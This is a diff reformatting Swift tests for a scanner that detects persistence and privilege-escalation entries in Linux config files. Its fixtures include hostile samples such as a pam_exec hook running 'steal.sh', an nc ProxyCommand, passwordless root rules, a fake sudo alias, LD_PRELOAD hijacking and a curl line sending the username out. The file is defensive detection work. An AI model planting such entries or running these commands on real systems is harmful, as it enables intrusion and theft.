@@ -17,7 +17,8 @@ import Testing
   let found = persistence(of: output)
   #expect(found.map(\.line) == [2, 3, 4, 5, 6])
   #expect(found[0].attributes == ["service": "sshd", "control": "@include", "module": "common-auth"])
-  #expect(found[1].attributes["control"] == "[success=1 default=ignore]" && found[1].attributes["arguments"] == "nullok")
+  #expect(
+    found[1].attributes["control"] == "[success=1 default=ignore]" && found[1].attributes["arguments"] == "nullok")
   #expect(found[2].trigger == "-session")
   #expect(found[3].command == "/usr/local/bin/steal.sh a" && found[3].attributes["module"] == "pam_exec.so")
   #expect(found[4].attributes["type"] == "password" && found[4].text.contains("pam_unix.so obscure yescrypt"))
@@ -27,7 +28,8 @@ import Testing
 }
 
 @Test func nameServicesStayReadable() {
-  let found = persistence("nsswitch", "/etc/nsswitch.conf", "passwd:  files evil\nhosts: files [NOTFOUND=return] dns # x\n")
+  let found = persistence(
+    "nsswitch", "/etc/nsswitch.conf", "passwd:  files evil\nhosts: files [NOTFOUND=return] dns # x\n")
   #expect(found[0].attributes == ["database": "passwd", "services": "files evil"])
   #expect(found[0].text == "passwd:  files evil")
   #expect(found[1].attributes["services"] == "files [NOTFOUND=return] dns")
@@ -62,7 +64,8 @@ import Testing
 
 @Test func sshClientCommandsAreMaskedAndFound() {
   let found = persistence(
-    "ssh-config", "/home/a/.ssh/config", "Host *\n  ProxyCommand sshpass -p hunter2 nc %h %p\n  PermitLocalCommand yes\n", account: "a")
+    "ssh-config", "/home/a/.ssh/config",
+    "Host *\n  ProxyCommand sshpass -p hunter2 nc %h %p\n  PermitLocalCommand yes\n", account: "a")
   #expect(found[1].command == "sshpass -p ******* nc %h %p" && found[1].trigger == "Host *" && found[1].account == "a")
   #expect(found[1].text.contains("hunter2") == false)
   #expect(found[2].attributes == ["PermitLocalCommand": "yes"])
@@ -98,9 +101,12 @@ import Testing
   #expect(found[1].account == "bob" && found[1].attributes["!authenticate"] == "on")
   #expect(found[2].attributes == ["OPS": "alice, bob", "kind": "User_Alias"])
   #expect(found[4].attributes["PASSWD_CMDS"] == "/usr/bin/passwd, /usr/sbin/chpasswd")
-  #expect(found[5].account == "root" && found[5].attributes["runas"] == "ALL:ALL" && found[5].attributes["commands"] == "ALL")
+  #expect(
+    found[5].account == "root" && found[5].attributes["runas"] == "ALL:ALL" && found[5].attributes["commands"] == "ALL")
   #expect(found[5].attributes["nopasswd"] == nil)
-  #expect(found[6].account == "%wheel" && found[6].attributes["nopasswd"] == "ALL" && found[6].attributes["tags"] == "NOPASSWD")
+  #expect(
+    found[6].account == "%wheel" && found[6].attributes["nopasswd"] == "ALL"
+      && found[6].attributes["tags"] == "NOPASSWD")
   #expect(found[6].text == "%wheel ALL=(ALL) NOPASSWD: ALL")
   #expect(found[7].attributes["hosts"] == "web1" && found[7].attributes["runas"] == "root,www")
   #expect(found[7].attributes["tags"] == "NOPASSWD SETENV PASSWD")
@@ -131,14 +137,19 @@ import Testing
   #expect(found.map(\.line) == [2, 7])
   #expect(found[0].trigger == "org.freedesktop.systemd1.manage-units" && found[0].account == "group ops")
   #expect(found[0].attributes["results"] == "YES" && found[0].attributes["groups"] == "ops")
-  #expect(found[1].command == "/tmp/x -a" && found[1].attributes["users"] == "eve" && found[1].attributes["results"] == "AUTH_SELF")
+  #expect(
+    found[1].command == "/tmp/x -a" && found[1].attributes["users"] == "eve"
+      && found[1].attributes["results"] == "AUTH_SELF")
   let local = persistence(
-    "polkit", "/etc/polkit-1/localauthority/50-local.d/x.pkla", "[All]\nIdentity=unix-user:*\nAction=*\nResultAny=yes\n")
+    "polkit", "/etc/polkit-1/localauthority/50-local.d/x.pkla", "[All]\nIdentity=unix-user:*\nAction=*\nResultAny=yes\n"
+  )
   #expect(local[0].account == "unix-user:*" && local[0].trigger == "*" && local[0].attributes["ResultAny"] == "yes")
 }
 
 @Test func doasRuleIsSplit() {
-  let found = persistence("doas", "/etc/doas.conf", "permit nopass keepenv setenv { A B } alice as root cmd /bin/sh args -c x\ndeny :guests\n")
+  let found = persistence(
+    "doas", "/etc/doas.conf", "permit nopass keepenv setenv { A B } alice as root cmd /bin/sh args -c x\ndeny :guests\n"
+  )
   #expect(found[0].account == "alice")
   #expect(
     found[0].attributes == [
@@ -172,7 +183,8 @@ import Testing
   #expect(found.dropFirst().map(\.line) == [3, 5, 7, 8, 9, 10, 11, 12, 13, 14, 16, 17])
   func signs(_ line: Int) -> String? { found.first { $0.line == line }?.attributes["signs"]?.text }
   #expect(signs(3) == "variable,odd-path" && found[1].attributes["value"] == "/tmp/bin:$PATH")
-  #expect(signs(5) == "alias" && found[2].attributes["alias"] == "sudo" && found[2].attributes["value"] == "/home/a/.x/sudo")
+  #expect(
+    signs(5) == "alias" && found[2].attributes["alias"] == "sudo" && found[2].attributes["value"] == "/home/a/.x/sudo")
   #expect(signs(7) == "function" && found[3].attributes["function"] == "su")
   #expect(signs(8) == "trap,odd-path" && found[4].command == "/tmp/on-exit")
   #expect(signs(9) == "variable,fetch" && found[5].command == "curl -s http://h/$(whoami)")
@@ -195,7 +207,8 @@ import Testing
 }
 
 @Test func variablesKeepValuesOnlyFromTheList() {
-  let found = persistence("environment", "/etc/environment", "PATH=\"/tmp:/bin\"\nLD_PRELOAD=/x.so\nMY_API=abc\nBASH_ENV DEFAULT=/tmp/e\n")
+  let found = persistence(
+    "environment", "/etc/environment", "PATH=\"/tmp:/bin\"\nLD_PRELOAD=/x.so\nMY_API=abc\nBASH_ENV DEFAULT=/tmp/e\n")
   #expect(found.map { $0.attributes["variable"] } == ["PATH", "LD_PRELOAD", "MY_API", "BASH_ENV"])
   #expect(found.map { $0.attributes["value"] } == ["/tmp:/bin", "/x.so", "***", "DEFAULT=/tmp/e"])
   #expect(found[2].text == "MY_API=***")
